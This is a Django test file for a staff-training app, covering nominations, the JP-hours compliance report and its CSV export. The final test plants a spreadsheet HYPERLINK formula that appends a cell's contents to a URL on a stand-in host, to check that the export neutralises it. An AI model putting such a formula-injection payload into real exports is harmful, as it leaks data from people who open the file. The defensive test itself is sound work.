"""Pages: nomination by a supervisor, the JP compliance report and its CSV export."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from pelatihan import services
from pelatihan.models import Peserta, StatusPeserta, StatusSesi

from .factories import PegawaiFactory, PelatihanFactory, PesertaFactory, SesiFactory


def sesi_mendatang(**kwargs):
    mulai = timezone.localdate() + timedelta(days=10)
    return SesiFactory(tanggal_mulai=mulai, tanggal_selesai=mulai + timedelta(days=1), **kwargs)


def test_atasan_mengusulkan_bawahan_dari_halaman_sesi(client, org):
    sesi = sesi_mendatang(pelatihan__nama="Bimtek Analisis Data")
    client.force_login(org.kabid.user)
    html = client.get("/pelatihan/sesi/").content.decode()
    assert "Bimtek Analisis Data" in html and "Siti Rahmawati" in html
    assert "Rizki Firmansyah" not in html  # not his subordinate
    resp = client.post(
        f"/pelatihan/sesi/{sesi.pk}/usulkan/", {"pegawai": org.siti.pk, "alasan": "Data"},
        follow=True,
    )  # fmt: skip
    assert "diusulkan untuk Bimtek Analisis Data" in resp.content.decode()
    assert Peserta.objects.get().status == StatusPeserta.DIUSULKAN
    resp = client.post(
        f"/pelatihan/sesi/{sesi.pk}/usulkan/", {"pegawai": org.rizki.pk}, follow=True
    )
    assert "Pilih salah satu bawahan langsung Anda." in resp.content.decode()
    assert Peserta.objects.count() == 1


def test_usulan_ke_sesi_penuh_ditolak_dengan_alasan(client, org):
    sesi = sesi_mendatang(kuota=1)
    services.peserta_daftarkan(sesi=sesi, pegawai=org.andi, oleh=org.hr)
    client.force_login(org.kabid.user)
    resp = client.post(f"/pelatihan/sesi/{sesi.pk}/usulkan/", {"pegawai": org.siti.pk}, follow=True)
    assert "Kuota sesi sudah penuh (1 dari 1 kursi terisi)." in resp.content.decode()


def test_kepatuhan_jp_dengan_saran_sesi_dan_csv(client, org):
    sesi_mendatang(pelatihan__nama="Pelatihan 24 JP", pelatihan__jp=24)
    lalu = SesiFactory(pelatihan__jp=12, tanggal_mulai=date(2026, 1, 5),
                       tanggal_selesai=date(2026, 1, 6))  # fmt: skip
    p = PesertaFactory(sesi=lalu, pegawai=org.siti)
    services.peserta_hasil_catat(peserta=p, hadir=True, hasil="LULUS")
    lalu.status = StatusSesi.SELESAI
    services.sesi_simpan(sesi=lalu)
    client.force_login(org.operator_diskes)
    html = client.get("/pelatihan/jp/", {"tahun": 2026}).content.decode()
    assert "Siti Rahmawati" in html and "Rizki Firmansyah" not in html
    assert "Pelatihan 24 JP" in html
    resp = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"})
    csv = resp.getvalue().decode("utf-8-sig")
    assert f"{org.siti.nip},Siti Rahmawati,Dinas Kesehatan,PNS,12,20,8,tidak" in csv
    client.force_login(org.siti.user)  # an employee sees their own row, but no export
    assert client.get("/pelatihan/jp/", {"format": "csv"}).status_code == 404


def test_kepatuhan_jp_per_unit_sebagai_grafik_dan_tabel(client, org):
    lalu = SesiFactory(pelatihan__jp=20, tanggal_mulai=date(2026, 1, 5),
                       tanggal_selesai=date(2026, 1, 6))  # fmt: skip
    p = PesertaFactory(sesi=lalu, pegawai=org.siti)
    services.peserta_hasil_catat(peserta=p, hadir=True, hasil="LULUS")
    lalu.status = StatusSesi.SELESAI
    services.sesi_simpan(sesi=lalu)
    client.force_login(org.operator_diskes)
    resp = client.get("/pelatihan/jp/", {"tahun": 2026})
    per_unit = {r.unit.nama: (r.memenuhi, r.target) for r in resp.context["rincian"]}
    ok, n = per_unit["Dinas Kesehatan"]  # the operator's unit, its own employees
    assert ok >= 1 and n > ok  # Siti (20 JP) meets it, the others in her unit do not
    html = resp.content.decode()
    assert 'role="img"' in html and "<title>Persentase pegawai yang memenuhi 20 JP" in html
    assert f"Dinas Kesehatan (langsung): {ok}/{n}" in html  # the accessible summary
    assert 'data-testid="tabel-per-unit"' in html
    assert "Dinas Pendidikan" not in per_unit  # outside the operator's units


def test_kepatuhan_jp_jumlah_query_tetap(client, org):
    sesi_mendatang(pelatihan=PelatihanFactory(jp=8))
    client.force_login(org.hr)
    client.get("/pelatihan/jp/")
    with CaptureQueriesContext(connection) as sedikit:
        client.get("/pelatihan/jp/")
    for _ in range(45):
        PegawaiFactory(unit_kerja=org.diskes)
    with CaptureQueriesContext(connection) as banyak:
        client.get("/pelatihan/jp/")
    # session, user, roles, unit choices, count, the page with JP/target subqueries, the
    # per-unit compliance (one grouped query), the upcoming sessions: flat.
    assert len(banyak) == len(sedikit)


def test_beranda_pelatihan_menampilkan_survei_terbuka(client, org):
    sesi = SesiFactory(status=StatusSesi.SELESAI, tanggal_mulai=date(2026, 3, 2),
                       tanggal_selesai=date(2026, 3, 4), pelatihan__nama="Bimtek Uji")  # fmt: skip
    PesertaFactory(sesi=sesi, pegawai=org.siti)
    services.undangan_survei_buat(pada=date(2026, 3, 4))
    client.force_login(org.siti.user)
    html = client.get("/pelatihan/").content.decode()
    assert "Survei yang perlu Anda isi" in html and "Isi survei" in html


def test_csv_kepatuhan_jp_menetralkan_rumus(client, org):
    """An imported name that is a formula reaches the CSV as text (issue 16, item 5)."""
    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    type(org.siti).objects.filter(pk=org.siti.pk).update(nama=rumus)
    client.force_login(org.operator_diskes)
    teks = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"}).getvalue().decode(
        "utf-8-sig"
    )
    sel = [c for r in csv.reader(io.StringIO(teks)) for c in r if "HYPERLINK" in c]
    assert sel == ["'" + rumus]
